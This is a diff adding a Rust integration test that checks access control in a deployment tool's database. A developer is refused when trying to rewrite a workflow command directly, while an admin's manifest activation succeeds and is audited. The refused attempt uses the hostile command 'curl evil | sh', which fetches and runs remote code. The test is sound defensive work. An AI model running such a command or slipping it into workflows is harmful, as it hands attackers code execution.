@@ -427,6 +427,7 @@ mod members {
     use ospdeck::domain::workflow::WorkflowType;
     use ospdeck::ops::{CreateService, DEPLOY_WORKFLOW, EnqueueRequest, Ops};
     use ospdeck::store::{self, StoreOptions};
+    use serde_json::json;
     use sqlx::{Connection, Executor, PgConnection};
 
     use super::common::{BoxError, Harness, TestResult};
@@ -687,6 +688,52 @@ mod members {
             .err()
             .ok_or("the administrator rewrote the deploy workflow")?;
         assert!(err.contains("deploy workflow keeps"), "{err}");
+        Ok(())
+    }
+
+    /// Activation is the admin path by which a service's workflow changes: a project admin on its
+    /// own login role activates a manifest that changes a workflow's command, and the database
+    /// audits it; a developer cannot take that path by calling its function directly.
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn a_project_admin_changes_a_service_workflow_by_activating_its_manifest() -> TestResult {
+        let Some(t) =
+            team("a_project_admin_changes_a_service_workflow_by_activating_its_manifest").await?
+        else {
+            return Ok(());
+        };
+        let h = &t.h;
+        let admin = ops_as(h, &t.admin).await?;
+        admin.create_service(&billing("ledger")?).await?;
+        let charge = h.ops.workflow("acme", "ledger.charge").await?.id;
+
+        let mut dev = connect(h, &t.dev).await?;
+        let before = row(h, "ops.workflows", charge).await;
+        let refused = refusal(
+            &mut dev,
+            &format!("SELECT ops.update_service_workflow({charge}, 'q', 'curl evil | sh')"),
+        )
+        .await
+        .ok_or("a developer changed a service workflow through the activation function")?;
+        assert!(refused.contains("permission denied"), "{refused}");
+        assert_eq!(before, row(h, "ops.workflows", charge).await);
+
+        let mut content = admin.manifest("ledger", None).await?.content;
+        content["workflows"][0]["command"] = json!("make charge");
+        let proposed = admin
+            .propose_manifest("ledger", &content.to_string(), None, None)
+            .await?;
+        admin.activate_manifest("ledger", &proposed.version).await?;
+        assert_eq!(
+            h.ops.workflow("acme", "ledger.charge").await?.command,
+            "make charge"
+        );
+        let audited = h
+            .scalar_text(&format!(
+                "SELECT actor || '|' || (after ->> 'command') FROM ops.audit_log
+                 WHERE action = 'update' AND entity_type = 'workflow' AND entity_id = '{charge}'"
+            ))
+            .await;
+        assert_eq!(audited, format!("{}|make charge", t.admin));
         Ok(())
     }
 
